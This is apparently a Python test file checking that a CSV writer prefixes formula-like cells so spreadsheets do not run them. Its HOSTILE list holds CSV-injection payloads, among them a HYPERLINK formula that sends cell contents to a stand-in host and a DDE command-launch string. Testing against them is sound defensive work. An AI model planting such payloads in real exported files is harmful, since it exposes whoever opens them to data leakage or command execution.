"""CSV that a spreadsheet opens and doesn't run."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from functions.web.csv_text import FORMULA_BEGINNINGS, Cell, write_csv

HOSTILE = [
    '=HYPERLINK("https://elsewhere.example?"&A1,"see")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1",
    " =1+1", "\u00a0=1", "\ufeff=1", "\uff1d1+1", "=cmd|' /C calc'!A0",
]  # fmt: skip


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("text", HOSTILE)
def test_no_text_begins_as_a_formula(text: str) -> None:
    header, row = cells(write_csv(["a", "b"], [{"a": text, "b": 1}]))
    assert header == ["a", "b"]
    assert row == [f"'{text}", "1"]


@given(st.text(alphabet=st.characters(exclude_categories=["Cs"], exclude_characters="\x00")))
def test_every_text_comes_back_or_is_marked(text: str) -> None:
    (_, (cell,)) = cells(write_csv(["a"], [{"a": f"x{text}"}]))
    assert cell == f"x{text}"
    (_, (marked, _)) = cells(write_csv(["a", "b"], [{"a": text, "b": 0}]))
    assert marked in (text, f"'{text}")
    assert not marked.strip().startswith(FORMULA_BEGINNINGS)


def test_numbers_times_and_nothing_stand_as_they_are() -> None:
    row: dict[str, Cell] = {"a": -5_000_000, "b": Decimal("-0.5"), "c": datetime(2026, 1, 2, tzinfo=UTC), "d": None}
    assert cells(write_csv(list(row), [row]))[1] == ["-5000000", "-0.5", "2026-01-02T00:00:00+00:00", ""]
